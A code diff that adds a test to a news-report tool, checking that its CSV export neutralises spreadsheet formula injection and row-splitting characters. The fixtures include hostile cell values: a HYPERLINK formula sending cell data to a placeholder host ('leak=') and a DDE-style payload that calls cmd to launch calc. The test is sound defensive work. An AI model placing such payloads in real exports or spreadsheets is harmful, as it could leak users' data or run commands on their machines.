@@ -80,3 +80,37 @@ def test_an_unknown_format_is_a_usage_error(db: str) -> None:
         assert "unknown export format 'xlsx'" in str(exc)
     else:
         raise AssertionError("no error")
+
+
+def test_report_text_cannot_become_a_formula_or_split_a_row(db: str, tmp_path: Path) -> None:
+    hostile = ['=HYPERLINK("http://x/?leak="&A1)', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\rCR"]
+    lines = [
+        {
+            "title": f"Drone attack {n}",
+            "source": f"{outlet} News\rWire",
+            "published": f"2024-01-{10 + n}",
+            "text": f"Two drones struck the Harir air base in Erbil province on {day}, a security source said.",
+        }
+        for n, (outlet, day) in enumerate(zip(hostile, ["Monday", "Tuesday", "Wednesday"] * 2, strict=True))
+    ]
+    feed = tmp_path / "hostile.jsonl"
+    feed.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
+    sitrep.ingest([feed], db=db)
+    text = sitrep.export("acled-csv", db=db)
+    assert isinstance(text, str)
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) > 1 and {len(row) for row in rows} == {len(ACLED_COLUMNS)}
+    cells = [cell for row in rows for cell in row]
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells if cell[:1] and not _number(cell)
+    )
+    sources = {row[ACLED_COLUMNS.index("source")] for row in rows[1:]}
+    assert any(source.startswith("'=HYPERLINK") for source in sources)
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
